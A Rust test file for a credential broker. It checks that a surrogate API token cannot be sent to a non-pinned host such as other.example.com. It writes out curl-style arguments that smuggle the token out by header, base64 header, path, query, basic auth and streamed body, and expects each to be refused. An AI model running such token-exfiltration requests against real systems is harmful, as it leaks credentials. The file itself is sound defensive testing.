//! Attack: the tool holds a surrogate for `API_TOKEN` (pinned to `api.example.com`) and sends it somewhere else,
//! hoping the broker swaps it for the real value there, or at least lets it through. Every form is refused as an
//! exfiltration attempt and nothing reaches the upstream.

use base64::Engine as _;

use crate::common::{API_REAL, API_SURROGATE, Failures, inject_harness};

#[test]
fn exfiltrate_a_surrogate_to_the_wrong_host() {
    let h = inject_harness();
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("x:{API_SURROGATE}:y"));
    let other = |path: &str| h.tls_url("other.example.com", path);
    let cases: Vec<(&str, Vec<String>)> = vec![
        ("header", vec!["-H".into(), format!("Authorization: Bearer {API_SURROGATE}"), other("/quiet")]),
        ("header, base64", vec!["-H".into(), format!("X-Data: {b64}"), other("/quiet")]),
        ("path", vec![other(&format!("/quiet/{API_SURROGATE}"))]),
        ("query", vec![other(&format!("/quiet?k={API_SURROGATE}"))]),
        ("basic auth", vec!["-u".into(), format!("me:{API_SURROGATE}"), other("/quiet")]),
        (
            "streamed body",
            vec![
                "-H".into(),
                "Content-Type: text/plain".into(),
                "--data-binary".into(),
                format!("k={API_SURROGATE}"),
                other("/quiet"),
            ],
        ),
        (
            "cleartext to the pinned host",
            vec![
                "-H".into(),
                format!("Authorization: Bearer {API_SURROGATE}"),
                format!("http://api.example.com:{}/quiet", h.upstream.addr.port()),
            ],
        ),
    ];
    let mut failures = Failures::default();
    for (what, args) in cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let r = h.curl_opened(&args);
        failures.check(r.status == 403, || format!("{what}: expected 403, got {r:?}"));
        if r.status == 403 {
            let kind = r.json()["kind"].as_str().unwrap_or("").to_string();
            failures.check(kind == "exfiltration", || format!("{what}: kind {kind}, want exfiltration"));
        }
    }
    // A streamed body is stopped mid-way, so an upstream may have seen the request start; never the surrogate, and
    // never the real value.
    let seen: Vec<_> =
        h.tls_upstream.seen.lock().unwrap().iter().chain(h.upstream.seen.lock().unwrap().iter()).cloned().collect();
    for s in seen {
        let all = format!("{} {:?} {}", s.uri, s.headers, String::from_utf8_lossy(&s.body));
        failures.check(!all.contains(API_SURROGATE) && !all.contains(API_REAL), || format!("an upstream saw {all}"));
    }
    failures.finish("exfiltrate_a_surrogate_to_the_wrong_host");
}
